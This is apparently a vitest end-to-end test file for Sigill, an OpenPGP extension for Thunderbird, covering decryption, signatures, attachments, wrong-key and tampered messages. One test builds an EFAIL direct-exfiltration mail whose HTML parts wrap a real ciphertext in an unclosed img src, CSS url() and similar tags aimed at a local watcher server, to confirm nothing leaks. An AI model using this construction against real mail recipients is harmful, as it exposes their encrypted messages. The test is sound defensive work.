// Scenario: bob reads, in real Thunderbird with Sigill, mail that other programs made and submitted to the
// relay: a message encrypted and signed with gpg (body and a 5 MB binary .pgp attachment) shows its
// plaintext alone, "signed by" the gpg key's user ID in Sigill's status popup, and the attachment saves
// byte-identical, and a reply quotes the decrypted text; a message for someone else says which keys it
// was for; an EFAIL direct-exfiltration mail built around a real ciphertext shows the decrypted
// text alone and makes no request to a loopback HTTP server the test watches; a tampered message shows
// an integrity error and no plaintext; a plain message is displayed unchanged.
import { createHash, randomBytes } from 'node:crypto';
import { createServer, type Server } from 'node:http';
import { existsSync, mkdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { armor, enums, unarmor } from 'openpgp';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { fixturePassphrase } from '../../keys-fixtures/index.ts';
import { describeWithTools } from '../support/tools.ts';
import { pgpMimeBody, pgpMimeContentType } from '../support/mail-bodies.ts';
import { e2eTools, eventually, type Client, World } from './harness/index.ts';
import { downloadPrefs, Gpg, openMessage, openStatus, submitRaw, replyQuoting } from './harness/reading.ts';

const CRLF = '\r\n';

function mail(headers: Record<string, string>, body: string): string {
  return `${Object.entries(headers).map(([name, value]) => `${name}: ${value}`).join(CRLF)}${CRLF}${CRLF}${body}`;
}

function base64Lines(bytes: Buffer): string {
  return (bytes.toString('base64').match(/.{1,76}/g) ?? []).join(CRLF);
}

function envelope(subject: string, contentType: string): Record<string, string> {
  return {
    From: 'Carol <carol@sigill.test>',
    To: 'Bob <bob@sigill.test>',
    Subject: subject,
    Date: new Date().toUTCString(),
    'Message-ID': `<${randomBytes(8).toString('hex')}@sigill.test>`,
    'MIME-Version': '1.0',
    'Content-Type': contentType,
  };
}

describeWithTools(e2eTools([{ command: 'gpg', debianPackage: 'gnupg' }]), 'e2e: reading OpenPGP mail from other programs in Thunderbird with Sigill', () => {
  let world: World;
  let bob: Client;
  let gpg: Gpg;
  let downloads: string;
  let watcher: Server;
  const requests: string[] = [];
  let watcherUrl = '';

  beforeAll(async () => {
    world = await World.start('read');
    downloads = join(world.artifacts, 'bob-downloads');
    mkdirSync(downloads, { recursive: true });
    bob = await world.launch('bob', { sigill: { ownKey: 'bob', correspondents: ['carol'] }, prefs: downloadPrefs(downloads) });
    gpg = Gpg.create(world, { secret: ['carol'], public: ['bob'] });
    // The exfiltration channel an EFAIL mail aims at: every request that reaches it is counted.
    watcher = createServer((request, response) => {
      requests.push(`${request.method ?? ''} ${request.url ?? ''}`);
      response.end('');
    });
    await new Promise<void>((resolve) => watcher.listen(0, '127.0.0.1', resolve));
    const address = watcher.address();
    if (address === null || typeof address === 'string') throw new Error('the watcher has no port');
    watcherUrl = `http://127.0.0.1:${address.port}`;
  });

  afterAll(async () => {
    gpg?.stop();
    await new Promise((resolve) => watcher?.close(resolve));
    await world?.stop();
  });

  it('shows a gpg message decrypted, "signed by" its key, and saves its 5 MB attachment byte-identical', async () => {
    const secret = `secret-canary-${randomBytes(6).toString('hex')}`;
    const attachment = randomBytes(5 * 1024 * 1024);
    const body = gpg.encryptSign(`Hello Bob,\n\nthe figures are attached. ${secret}\n\nCarol\n`, { to: 'bob@sigill.test', from: 'carol@sigill.test', armor: true });
    const encryptedFile = gpg.encryptSign(attachment, { to: 'bob@sigill.test', from: 'carol@sigill.test', armor: false, filename: 'figures.bin' });
    const subject = `figures ${randomBytes(4).toString('hex')}`;
    const raw = mail(
      envelope(subject, 'multipart/mixed; boundary="gpg-mixed"'),
      [
        '--gpg-mixed',
        'Content-Type: text/plain; charset=us-ascii',
        '',
        body.toString('latin1').trimEnd(),
        '--gpg-mixed',
        'Content-Type: application/octet-stream; name="figures.bin.pgp"',
        'Content-Disposition: attachment; filename="figures.bin.pgp"',
        'Content-Transfer-Encoding: base64',
        '',
        base64Lines(encryptedFile),
        '--gpg-mixed--',
        '',
      ].join(CRLF),
    );
    await submitRaw(world, 'carol', 'bob', raw);
    await eventually(async () => (await world.relay.messages(bob.user.address)).length > 0, 60_000, "the message in bob's mailbox");
    const stored = await world.relay.messages(bob.user.address);
    const storedRaw = (await world.relay.raw(bob.user.address, stored[stored.length - 1]!.id)).toString('latin1');
    expect(storedRaw).not.toContain(secret);

    const header = await bob.receive({ subject });
    const pane = await openMessage(bob, header.id, fixturePassphrase('bob'));
    expect(pane.sigill).toBe('shown');
    expect(pane.text).toContain(secret);
    expect(pane.text).toContain('Hello Bob,');
    expect(pane.text).not.toContain('-----BEGIN PGP');
    await bob.screenshot('gpg-display');

    const status = await openStatus(bob);
    expect(await status.text('#headline')).toBe('Encrypted and signed');
    const signer = await status.text('.signer');
    expect(signer).toContain('Signed by Carol <carol@sigill.test>');
    expect(signer).toContain('CF26 5079 D2D8 34F2 36FA 8F37 BF21 F4C9 9E74 A3EB'); // the popup's text, spaces collapsed
    expect(await status.text('.attachment .name')).toBe('figures.bin');
    await bob.screenshot('gpg-status');

    await status.click('.attachment .save');
    const saved = join(downloads, 'figures.bin');
    await eventually(() => existsSync(saved) && readFileSync(saved).length === attachment.length, 180_000, 'the decrypted attachment in the download folder');
    expect(createHash('sha256').update(readFileSync(saved)).digest('hex')).toBe(createHash('sha256').update(attachment).digest('hex'));
    await status.waitFor('.attachment .status', (state) => (state.text ?? '').includes('figures.bin'));
    await bob.screenshot('gpg-attachment-saved');

    // Reply: the quote is the decrypted text that was shown, not the ciphertext Thunderbird sees.
    const { quoted } = await replyQuoting(bob, header.id, secret);
    expect(quoted).not.toContain('BEGIN PGP');
    await bob.screenshot('gpg-reply');
  });

  it('saves the 6 MB attachment of a PGP/MIME message byte-identical (left base64 while the body is shown, decoded when saved)', async () => {
    const secret = `secret-canary-${randomBytes(6).toString('hex')}`;
    const attachment = randomBytes(6 * 1024 * 1024);
    const inner = [
      'Content-Type: multipart/mixed; boundary="inner"',
      '',
      '--inner',
      'Content-Type: text/plain; charset=us-ascii',
      '',
      `The archive is attached. ${secret}`,
      '--inner',
      'Content-Type: application/octet-stream; name="archive.bin"',
      'Content-Disposition: attachment; filename="archive.bin"',
      'Content-Transfer-Encoding: base64',
      '',
      base64Lines(attachment),
      '--inner--',
      '',
    ].join(CRLF);
    const ciphertext = gpg.encryptSign(inner, { to: 'bob@sigill.test', from: 'carol@sigill.test', armor: true }).toString('latin1').trimEnd();
    const subject = `archive ${randomBytes(4).toString('hex')}`;
    const raw = mail(
      envelope(subject, 'multipart/encrypted; protocol="application/pgp-encrypted"; boundary="enc"'),
      ['--enc', 'Content-Type: application/pgp-encrypted', '', 'Version: 1', '--enc', 'Content-Type: application/octet-stream; name="encrypted.asc"', '', ciphertext, '--enc--', ''].join(CRLF),
    );
    await submitRaw(world, 'carol', 'bob', raw);
    const header = await bob.receive({ subject }, 120_000);
    const pane = await openMessage(bob, header.id, fixturePassphrase('bob'));
    expect(pane.sigill).toBe('shown');
    expect(pane.text).toContain(secret);
    const status = await openStatus(bob);
    expect(await status.text('#headline')).toBe('Encrypted and signed');
    expect(await status.text('.attachment .name')).toBe('archive.bin');
    await bob.screenshot('pgpmime-attachment-status');
    await status.click('.attachment .save');
    const saved = join(downloads, 'archive.bin');
    await eventually(() => existsSync(saved) && readFileSync(saved).length === attachment.length, 180_000, 'the attachment in the download folder');
    expect(createHash('sha256').update(readFileSync(saved)).digest('hex')).toBe(createHash('sha256').update(attachment).digest('hex'));
    await status.waitFor('.attachment .status', (state) => (state.text ?? '').includes('archive.bin'));
    await bob.screenshot('pgpmime-attachment-saved');
  });

  it('says which keys a message was encrypted to when bob has none of them', async () => {
    const secret = `secret-canary-${randomBytes(6).toString('hex')}`;
    const onlyForCarol = gpg.encryptSign(`not for bob ${secret}`, { to: 'carol@sigill.test', from: 'carol@sigill.test', armor: true }).toString('latin1');
    const subject = `not for you ${randomBytes(4).toString('hex')}`;
    await submitRaw(world, 'carol', 'bob', mail(envelope(subject, 'text/plain; charset=us-ascii'), onlyForCarol));
    const header = await bob.receive({ subject });
    const pane = await openMessage(bob, header.id);
    expect(pane.sigill).toBe('untouched');
    expect(pane.text).not.toContain(secret);
    const status = await openStatus(bob);
    const error = await status.text('[data-code="NOT_ENCRYPTED_FOR_US"]');
    expect(error).toContain('not encrypted to any of your keys');
    expect(error).toMatch(/key IDs [0-9A-F]{16}/);
    await bob.screenshot('no-secret-key-status');
  });

  it('shows an EFAIL direct-exfiltration mail as the decrypted text alone and makes no request at all', async () => {
    const secret = `secret-canary-${randomBytes(6).toString('hex')}`;
    const inner = mail(
      { 'Content-Type': 'text/html; charset=utf-8' },
      `<p>The launch code is ${secret}.</p><img src="${watcherUrl}/inner-img"><p style="background:url(${watcherUrl}/inner-css)">styled</p><a href="https://example.org/">a link</a>`,
    );
    const ciphertext = gpg.encryptSign(inner, { to: 'bob@sigill.test', from: 'carol@sigill.test', armor: true }).toString('latin1').trimEnd();
    const subject = `efail ${randomBytes(4).toString('hex')}`;
    // The attacker wraps a real ciphertext (as if captured on the way) between HTML parts that would
    // turn its plaintext into a URL: an unclosed img src, a CSS url(, a link to a style sheet, a video poster.
    const raw = mail(
      envelope(subject, 'multipart/mixed; boundary="efail"'),
      [
        '--efail',
        'Content-Type: text/html; charset=utf-8',
        '',
        `<html><head><link rel="stylesheet" href="${watcherUrl}/link"><style>body{background:url(${watcherUrl}/style)}</style></head><body>ATTACKER-BEFORE<video poster="${watcherUrl}/poster"></video><img src="${watcherUrl}/img?`,
        '--efail',
        `Content-Type: ${pgpMimeContentType}`,
        '',
        pgpMimeBody(ciphertext).trimEnd(),
        '--efail',
        'Content-Type: text/html; charset=utf-8',
        '',
        '">ATTACKER-AFTER</body></html>',
        '--efail--',
        '',
      ].join(CRLF),
    );
    await submitRaw(world, 'carol', 'bob', raw);
    const header = await bob.receive({ subject });
    const pane = await openMessage(bob, header.id, fixturePassphrase('bob'));
    expect(pane.sigill).toBe('shown');
    expect(pane.text).toContain(`The launch code is ${secret}.`);
    expect(pane.text).not.toContain('ATTACKER');
    expect(pane.html).not.toContain(watcherUrl);
    await bob.screenshot('efail-display');
    const status = await openStatus(bob);
    expect(await status.text('#encryption')).toContain('Only part of this message was encrypted');
    expect(await status.text('#unprotected')).toContain('2 unprotected part(s)');
    await bob.screenshot('efail-status');
    // Whatever Thunderbird or Sigill did, nothing reached the watcher.
    await new Promise((resolve) => setTimeout(resolve, 2000));
    expect(requests).toEqual([]);
  });

  it('shows an integrity error and no plaintext for a tampered message', async () => {
    const secret = `secret-canary-${randomBytes(6).toString('hex')}`;
    const armored = gpg.encryptSign(`${secret} `.repeat(50), { to: 'bob@sigill.test', from: 'carol@sigill.test', armor: true }).toString('latin1');
    const { data } = await unarmor(armored);
    const bytes = new Uint8Array(data as Uint8Array);
    bytes[bytes.length - 40]! ^= 0x01;
    const tampered = armor(enums.armor.message, bytes);
    const subject = `tampered ${randomBytes(4).toString('hex')}`;
    await submitRaw(world, 'carol', 'bob', mail(envelope(subject, 'text/plain; charset=us-ascii'), tampered));
    const header = await bob.receive({ subject });
    const pane = await openMessage(bob, header.id);
    expect(pane.text).not.toContain(secret);
    expect(pane.sigill).toBe('untouched');
    await bob.screenshot('tampered-display');
    const status = await openStatus(bob);
    expect(await status.text('#headline')).toBe('This message could not be decrypted');
    expect(await status.text('[data-code="INTEGRITY_FAILURE"]')).toContain('modified or damaged');
    await bob.screenshot('tampered-status');
  });

  it('displays a plain message unchanged', async () => {
    const subject = `lunch ${randomBytes(4).toString('hex')}`;
    const body = 'Shall we have lunch on Friday?\r\n\r\n> You wrote: maybe\r\nSee https://example.org/menu for the menu.';
    await submitRaw(world, 'carol', 'bob', mail(envelope(subject, 'text/plain; charset=us-ascii'), body));
    const header = await bob.receive({ subject });
    const pane = await openMessage(bob, header.id);
    expect(pane.sigill).toBe('untouched');
    expect(pane.text).toContain('Shall we have lunch on Friday?');
    await bob.screenshot('plain-display');
    const status = await openStatus(bob);
    expect(await status.text('#headline')).toBe('Not encrypted and not signed');
    await bob.screenshot('plain-status');
  });

  it('leaves nothing running', async () => {
    gpg.stop();
    expect(await world.stop()).toEqual([]);
  });
});
